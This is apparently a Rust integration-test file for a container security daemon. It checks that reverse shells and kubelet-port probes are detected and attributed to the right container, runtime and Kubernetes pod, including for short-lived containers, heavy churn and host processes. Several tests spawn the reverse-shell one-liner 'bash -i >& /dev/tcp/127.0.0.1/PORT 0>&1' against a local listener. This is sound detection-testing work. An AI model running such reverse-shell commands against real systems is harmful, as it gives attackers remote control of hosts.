//! Whose act it was: containers that hardly live, thousands of them, those that were there before the
//! daemon, and the host itself.

use crate::container::{Container, Group, wait};
use crate::daemon::{ALERT_WAIT, Daemon, Settings, is_alert, outcome};
use crate::lab::Peer;
use crate::pace;
use crate::shared;
use anyhow::{Context, Result, anyhow, ensure};
use std::collections::HashSet;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Life of a short container.
const SHORT: Duration = Duration::from_millis(50);
const CHURN: usize = 2000;
/// Started side by side; as many as this machine has processors would be too gentle.
const BATCH: usize = 4;

/// Where runtimes put a container's cgroup, as seen from their parent, with what is to be told of it: the
/// runtime's name, if the path has one, and the pod's uid. Both of Docker's drivers; kubelet with both of its own.
const LAYOUTS: [(&str, &str, &str); 6] = [
    ("docker/ID", "docker", ""),
    ("system.slice/docker-ID.scope", "docker", ""),
    ("system.slice/cri-containerd-ID.scope", "containerd", ""),
    ("kubepods/burstable/podPOD/ID", "", POD),
    ("kubepods/besteffort/podPOD/crio-ID", "cri-o", POD),
    (
        "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-podP_O_D.slice/cri-containerd-ID.scope",
        "containerd",
        POD,
    ),
];
const POD: &str = "2f6b1c3a-98d4-4e57-a6c0-1d2e3f4a5b6c";

/// A reverse shell is told with its container's id, runtime and pod, wherever the runtime put the
/// container: in the hierarchy this machine tells containers by.
pub fn runtime_layouts_are_told_apart() -> Result<()> {
    let watch = shared::watch("monitor")?;
    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "exit\n", pace::wait(Duration::from_secs(1)))?;
    for (layout, runtime, pod) in LAYOUTS {
        // In the name of a slice, dashes are levels.
        let path = layout.replace("POD", POD).replace("P_O_D", &POD.replace('-', "_"));
        let cgroup = watch.group.cgroup_at(&path)?;
        let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
        let child = cgroup.command(&["bash", "-c", &attack]).stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
        wait(child, pace::wait(Duration::from_secs(10)))?;
        let alert = watch.daemon.await_alert("reverse_shell", &cgroup.id).context(layout)?;
        let told = alert["container"]["runtime"].as_str().unwrap_or_default();
        ensure!(told == runtime, "{layout}: runtime {told:?}, not {runtime:?}");
        let told = alert["container"]["labels"]["io.kubernetes.pod.uid"].as_str().unwrap_or_default();
        ensure!(told == pod, "{layout}: pod {told:?}, not {pod:?}");
    }
    Ok(())
}

/// A container gone 50 ms after it was made is named in the alert about it.
pub fn short_lived_container_is_identified() -> Result<()> {
    let watch = shared::watch("monitor")?;
    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "exit\n", pace::wait(Duration::from_millis(40)))?;
    let mut ids = Vec::new();
    for _ in 0..5 {
        let cgroup = watch.group.cgroup()?;
        let made = Instant::now();
        let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
        let mut child = cgroup.command(&["bash", "-c", &attack]).stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
        std::thread::sleep(pace::wait(SHORT).saturating_sub(made.elapsed()));
        let _ = child.kill();
        let _ = child.wait();
        ids.push(cgroup.id.clone());
    }
    for id in ids {
        let alert = watch.daemon.await_alert("reverse_shell", &id)?;
        ensure!(alert["container"]["runtime"] == "docker", "runtime {}", alert["container"]["runtime"]);
    }
    Ok(())
}

/// 2,000 containers of at most some ten milliseconds: every one is named by the finding about its one
/// act, and memory does not grow with them.
pub fn churn_2000_containers_rss_flat() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
    let mut ids = HashSet::new();
    let mut resident = Vec::new();
    for _ in 0..2 {
        ids.extend(churn(&group, pace::times(CHURN) / 2)?);
        std::thread::sleep(pace::wait(Duration::from_secs(2)));
        resident.push(daemon.rss_bytes()?);
    }
    let status = daemon.status()?;
    eprintln!("churn: resident {resident:?} bytes after each half; {}", counters(&status));
    let deadline = Instant::now() + pace::wait(ALERT_WAIT);
    let missed = loop {
        let rows = daemon.rows();
        let found: HashSet<&str> = rows
            .iter()
            .filter(|row| row["event"]["action"] == "kubelet_access")
            .filter_map(|row| row["container"]["id"].as_str())
            .collect();
        let missed = ids.iter().filter(|id| !found.contains(id.as_str())).count();
        if missed == 0 || Instant::now() > deadline {
            break missed;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    ensure!(missed == 0, "{missed} of {} containers were not identified; {}", ids.len(), counters(&status));
    let (first, last) = (resident[0] as f64, resident[1] as f64);
    ensure!((last - first).abs() <= first * 0.1, "resident memory went from {first} to {last} bytes");
    Ok(())
}

fn counters(status: &serde_json::Value) -> String {
    ["events_received", "events_lost", "findings"].map(|name| format!("{name} {}", status[name])).join(", ")
}

/// Makes so many containers, each of which asks the kubelet's port (where nobody listens) once.
fn churn(group: &Group, count: usize) -> Result<Vec<String>> {
    let one = || -> Result<String> {
        let cgroup = group.cgroup()?;
        let mut command = cgroup.command(&["bash", "-c", ": <>/dev/tcp/127.0.0.1/10250"]);
        let child = command.stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
        wait(child, pace::wait(Duration::from_secs(10)))?;
        Ok(cgroup.id.clone())
    };
    std::thread::scope(|scope| {
        let batches: Vec<_> =
            (0..BATCH).map(|_| scope.spawn(|| (0..count / BATCH).map(|_| one()).collect::<Result<Vec<_>>>())).collect();
        let mut ids = Vec::new();
        for batch in batches {
            ids.extend(batch.join().map_err(|_| anyhow!("a thread panicked"))??);
        }
        Ok(ids)
    })
}

/// A reverse shell that was up before the daemon is found, in a container the daemon did not see made.
pub fn running_before_daemon_is_found() -> Result<()> {
    let group = Group::make()?;
    let container = Container::start(&group)?;
    let peer = Peer::shell(container.listen()?, "echo up > /tmp/effect\n", pace::wait(Duration::from_secs(60)))?;
    let mut shell = container.spawn(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
    let deadline = Instant::now() + pace::wait(Duration::from_secs(10));
    while !container.path("/tmp/effect").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    ensure!(container.path("/tmp/effect").exists(), "the reverse shell of the stage did not come up");
    let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
    let alert = daemon.await_alert("reverse_shell", container.id())?;
    ensure!(outcome(&alert) == "observed", "outcome {}", outcome(&alert));
    ensure!(alert["process"]["name"] == "bash", "process {}", alert["process"]["name"]);
    ensure!(shell.try_wait()?.is_none(), "the shell was touched");
    drop(container);
    let _ = shell.wait();
    Ok(())
}

/// A reverse shell of the host's own is found and, also in `protect`, left alone.
pub fn host_is_alert_only() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings { host: true, ..Settings::mode("protect") })?;
    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "", pace::wait(Duration::from_secs(30)))?;
    let attack = format!("exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
    let mut shell = Command::new("bash")
        .args(["-c", &attack])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .context("bash")?;
    let found = daemon.await_row("reverse_shell alert of the host", ALERT_WAIT, |row| {
        is_alert(row, "reverse_shell", "host") && row["process"]["pid"] == shell.id()
    });
    std::thread::sleep(pace::wait(Duration::from_millis(200)));
    let alive = shell.try_wait().map(|status| status.is_none());
    let _ = shell.kill();
    let _ = shell.wait();
    let alert = found?;
    ensure!(alive?, "the host's process was killed");
    ensure!(matches!(outcome(&alert), "observed" | "refused"), "outcome {}", outcome(&alert));
    Ok(())
}
